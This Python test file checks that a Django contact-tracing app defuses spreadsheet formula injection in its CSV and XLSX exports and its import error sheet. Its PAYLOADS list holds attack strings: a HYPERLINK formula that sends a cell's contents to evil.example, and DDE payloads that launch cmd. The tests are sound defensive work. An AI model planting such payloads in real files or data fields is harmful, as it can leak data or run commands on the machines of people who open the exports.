"""CSV/XLSX formula injection: whatever a citizen or an import put in a value, no export path
hands a spreadsheet a cell it would run (=, +, -, @, and those behind a tab or CR)."""

import csv
import io
import uuid
from datetime import date

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from forms_engine.import_files import ErrorSheet
from forms_engine.models import Submission
from forms_engine.resources import FORMULA_STARTS
from places.folding import fold
from places.models import Place
from tests.forms_engine.conftest import checkpoint_form, home  # noqa: F401 - fixtures
from tracing.models import Alert, Person, QuarantineOrder

pytestmark = pytest.mark.django_db

PAYLOADS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)


def cells_of(response, fmt: str) -> list:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    assert response.status_code == 200, (response.status_code, body[:200])
    if fmt == "csv":
        return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]
    sheet = load_workbook(io.BytesIO(body)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row), "a formula cell"
    return [cell.value for row in sheet.iter_rows() for cell in row]


def assert_defused(cells: list, *, expected: int) -> None:
    """No cell starts as a formula, and the payloads are there, each behind a quote."""
    texts = [cell for cell in cells if isinstance(cell, str)]
    live = [cell for cell in texts if cell.startswith(FORMULA_STARTS)]
    assert not live, f"cells a spreadsheet would run: {live}"
    # (XLSX stores a CR as a line feed: "'\r=1+1" comes back as "'\n=1+1", still a quoted text.)
    defused = [cell for cell in texts if cell.startswith("'") and cell[1:].lstrip("\t\r\n")[:1] in "=+-@"]
    assert len(defused) >= expected, texts


@pytest.fixture
def admin(client, make_user, area_tree):
    user = make_user("admin", area=area_tree["province"], superuser=True)
    client.force_login(user)
    return user


@pytest.fixture
def poisoned(checkpoint_form, area_tree):  # noqa: F811
    """A row of every exported kind with a payload in a text column."""
    area = area_tree["dong_cau"]
    version = checkpoint_form.current_version
    persons = []
    for number, payload in enumerate(PAYLOADS):
        persons.append(
            Person.objects.create(
                full_name=payload, name_folded=fold(payload), home_area=area, address=payload
            )
        )
        Submission.objects.create(
            form=checkpoint_form,
            version=version,
            client_id=uuid.uuid4(),
            data={"note": payload, "traveller": {"full_name": payload}, "direction": "in"},
            data_hash=uuid.uuid4().hex,
            area=area,
        )
        Alert.objects.create(
            key=f"x:{number}", kind=Alert.KIND_FEVER, person=persons[-1], area=area, message=payload
        )
        QuarantineOrder.objects.create(
            person=persons[-1],
            kind="home",
            area=area,
            reason=payload,
            start_date=date(2021, 8, 1),
            planned_end=date(2021, 8, 14),
        )
        Place.objects.create(kind=Place.KIND_VENUE, name=payload, code=f"DD-X{number}", area=area)
        area.add_child(code=f"22711-02-{number}", name=payload, level_label="Tổ")
        area.refresh_from_db()
    return {"form": checkpoint_form}


LISTINGS = ["persons:index", "alerts:index", "quarantine_orders:index", "places:index", "areas:index"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("listing", LISTINGS)
def test_admin_listings(client, admin, poisoned, listing, fmt):
    assert_defused(cells_of(client.get(reverse(listing), {"export": fmt}), fmt), expected=len(PAYLOADS))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_submissions_listing(client, admin, poisoned, fmt):
    """Its data column is the values as JSON: never a formula, whatever they hold."""
    assert_defused(cells_of(client.get(reverse("submissions:list"), {"export": fmt}), fmt), expected=0)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_one_forms_export_a_column_per_field(client, admin, poisoned, fmt):
    url = reverse("submission_export", args=[poisoned["form"].pk, fmt])
    # The note column and the traveller's name column: twice each payload.
    assert_defused(cells_of(client.get(url), fmt), expected=2 * len(PAYLOADS))


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_access_log(client, admin, poisoned, fmt):
    """A search for a payload is recorded with the export's query, and exported in turn."""
    client.get(reverse("persons:index"), {"export": "csv", "q": PAYLOADS[0]})
    response = client.get(reverse("access_log:index"), {"export": fmt})
    assert_defused(cells_of(response, fmt), expected=0)


def test_the_import_error_sheet():
    sheet = ErrorSheet(["full_name", "note"])
    for number, payload in enumerate(PAYLOADS, start=2):
        sheet.add(number, payload, payload, {"full_name": payload, "note": payload})
    text = sheet.as_file().read().decode("utf-8-sig")
    sheet.close()
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    assert_defused(cells, expected=4 * len(PAYLOADS))
